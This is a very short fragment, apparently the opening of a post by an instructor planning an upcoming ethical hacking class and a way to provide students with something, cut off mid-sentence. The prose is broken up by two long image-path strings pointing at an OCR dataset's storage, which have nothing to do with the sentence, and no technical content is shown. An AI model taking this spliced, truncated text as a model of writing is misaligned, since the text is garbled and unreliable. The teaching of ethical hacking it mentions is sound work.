For anethical hacking class that I will be teaching coming up in the near future I wanted toidentify a way where I could provide students ...